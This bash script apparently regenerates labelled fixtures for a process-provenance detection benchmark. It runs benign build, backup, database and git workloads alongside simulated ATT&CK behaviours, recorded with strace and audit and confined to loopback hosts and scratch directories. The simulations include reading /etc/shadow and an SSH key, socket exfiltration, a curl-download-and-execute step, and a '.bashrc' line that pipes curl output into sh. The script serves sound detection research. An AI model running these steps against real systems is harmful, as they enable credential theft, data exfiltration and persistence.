#!/usr/bin/env bash
# Re-captures the labelled detection set under test/fixtures/detect/ (bench/detect-bench.ts and
# test/e2e/detect-cli.test.ts read it): benign workloads run several times, and attack-like variants
# of them covering ATT&CK behaviours, recorded with `provflow trace` (strace) and `provflow audit`
# (the kernel's audit log; needs root). Every network peer is on 127.0.0.1; every file is written in
# a scratch directory under $TMPDIR (a scratch HOME too), removed at the end; nothing persists.
#
#   bash scripts/capture-detect-fixtures.sh [REPEATS]      (default 4 runs of each benign workload)
#   PF_DETECT_OUT=DIR bash scripts/…                       (another directory: a fresh held-out set)
set -euo pipefail
# the same environment wherever the script runs (a shell, npm, the bench): which directories a shell
# searches, which locale files programs read, which python answers are part of the recorded graphs
if [ -z "${PF_DETECT_CLEAN_ENV:-}" ]; then
  exec env -i PF_DETECT_CLEAN_ENV=1 PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
    HOME="${HOME:-/root}" TMPDIR=/tmp LANG=C.UTF-8 ${PF_DETECT_OUT:+PF_DETECT_OUT="$PF_DETECT_OUT"} \
    bash "$0" "$@"
fi
here=$(cd "$(dirname "$0")/.." && pwd)
out="${PF_DETECT_OUT:-$here/test/fixtures/detect}"
repeats=${1:-4}
pf=(node "$here/dist/provflow.js")
[ -f "$here/dist/provflow.js" ] || (cd "$here" && npm run build >/dev/null)
root=$(mktemp -d "${TMPDIR:-/tmp}/pf-detect.XXXXXXXX")
db="$root/capture.db"
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  rm -rf "$root"
}
trap cleanup EXIT
rm -rf "$out/strace" "$out/audit"
mkdir -p "$out/strace" "$out/audit"
labels="$out/labels.tsv"
printf 'name\tsource\tlabel\tworkload\ttechnique\n' >"$labels"

# a free loopback port
port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1]); s.close()'; }

# the payload an "attacker" downloads (ingress tool transfer), served by python's http.server
mkdir -p "$root/www"
printf '#!/bin/sh\nid\nuname -a\nhead -c 64 /etc/hostname\n' >"$root/www/tool.sh"
www_port=$(port)
(cd "$root/www" && exec python3 -m http.server "$www_port" --bind 127.0.0.1 >/dev/null 2>&1) &
pids+=($!)
# an exfiltration sink: accepts connections on loopback and throws the data away
sink_port=$(port)
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16)
while True:
    c, _ = s.accept()
    while c.recv(65536): pass
    c.close()
' "$sink_port" &
pids+=($!)
sleep 0.5

# the workloads: each runs in a fresh scratch directory with a scratch HOME
cat >"$root/workloads.sh" <<'SH'
set -e
w=$1; shift
S=$(mktemp -d "${TMPDIR:-/tmp}/pfw.XXXXXXXX")
export HOME="$S/home"; mkdir -p "$HOME/.ssh"
printf 'fake-private-key-for-tests\n' >"$HOME/.ssh/id_ed25519"
cd "$S"
build() {
  mkdir -p src && printf '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n' >src/main.c
  printf 'all: app\napp: src/main.c\n\tgcc -O1 -o app src/main.c\n' >Makefile
  make -s >/dev/null && ./app >/dev/null
}
backup() {
  mkdir -p data backups && for i in 1 2 3; do printf 'record %s\n' "$i" >"data/f$i.txt"; done
  tar czf "backups/data-$(date +%Y%m%d%H%M%S).tgz" data
}
pgquery() {
  printf 'select count(*) from pg_class;\nselect current_database();\n' >q.sql
  psql -X -q -h 127.0.0.1 -U postgres -d test -f q.sql >/dev/null
}
gitwork() {
  git init -q repo && cd repo && git config user.email t@example.invalid && git config user.name t
  printf 'hello\n' >README && git add README && git commit -q -m init && git log --oneline >/dev/null
  cd ..
}
case "$w" in
  build) build ;;
  backup) backup ;;
  pgquery) pgquery ;;
  git) gitwork ;;
  # credential access (T1003.008 /etc/shadow, T1552.004 private keys)
  cred-access) build; cat /etc/shadow >/dev/null; cat "$HOME/.ssh/id_ed25519" >/dev/null ;;
  # exfiltration over a socket (T1048) to a loopback listener
  exfil) backup; python3 -c 'import socket,sys,glob; s=socket.create_connection(("127.0.0.1",int(sys.argv[1]))); s.sendall(open(glob.glob("backups/*.tgz")[0],"rb").read()); s.close()' "$SINK_PORT" ;;
  # ingress tool transfer (T1105) and execution from /dev/shm or /tmp (T1059.004)
  ingress) pgquery; d=/dev/shm; [ "${VARIANT:-0}" = 1 ] && d=$S; curl -s -o "$d/.t$$" "http://127.0.0.1:$WWW_PORT/tool.sh"; chmod +x "$d/.t$$"; "$d/.t$$" >/dev/null; rm -f "$d/.t$$" ;;
  # persistence (T1053.003 cron, T1546.004 .bashrc), in the scratch HOME only
  persistence) gitwork; mkdir -p "$S/etc/cron.d"; printf '* * * * * root %s/home/.x\n' "$S" >"$S/etc/cron.d/job"; printf 'curl -s http://127.0.0.1:1/x | sh\n' >>"$HOME/.bashrc" ;;
  # discovery (T1033, T1082, T1057, T1087)
  discovery) pgquery; id >/dev/null; uname -a >/dev/null; ps aux >/dev/null; cat /etc/passwd >/dev/null ;;
esac
cd /; rm -rf "$S"
SH

export SINK_PORT=$sink_port WWW_PORT=$www_port
capture() { # source name label workload technique [variant]
  local src=$1 name=$2 label=$3 w=$4 tech=$5
  export VARIANT=${6:-0}
  if [ "$src" = strace ]; then
    "${pf[@]}" trace --db "$db" -q --name "$name" -o "$out/strace/$name.log" -- bash "$root/workloads.sh" "$w"
  else
    "${pf[@]}" audit --db "$db" -q --name "$name" -o "$out/audit/$name.log" -- bash "$root/workloads.sh" "$w"
  fi
  printf '%s\t%s\t%s\t%s\t%s\n' "$name" "$src" "$label" "$w" "$tech" >>"$labels"
}

for src in strace audit; do
  if [ "$src" = audit ] && [ "$(id -u)" != 0 ]; then echo "not root: no audit captures" >&2; continue; fi
  n=$repeats
  [ "$src" = audit ] && n=$(( repeats > 2 ? 3 : repeats ))
  for w in build backup pgquery git; do
    for i in $(seq 1 "$n"); do capture "$src" "$src-$w-$i" benign "$w" -; done
  done
  for v in 0 1; do
    capture "$src" "$src-cred-access-$v" attack cred-access T1003.008,T1552.004 "$v"
    capture "$src" "$src-exfil-$v" attack exfil T1048 "$v"
    capture "$src" "$src-ingress-$v" attack ingress T1105,T1059.004 "$v"
    capture "$src" "$src-persistence-$v" attack persistence T1053.003,T1546.004 "$v"
    capture "$src" "$src-discovery-$v" attack discovery T1033,T1082,T1057,T1087 "$v"
  done
done
gzip -9 -f "$out"/strace/*.log "$out"/audit/*.log 2>/dev/null || true
du -sh "$out"
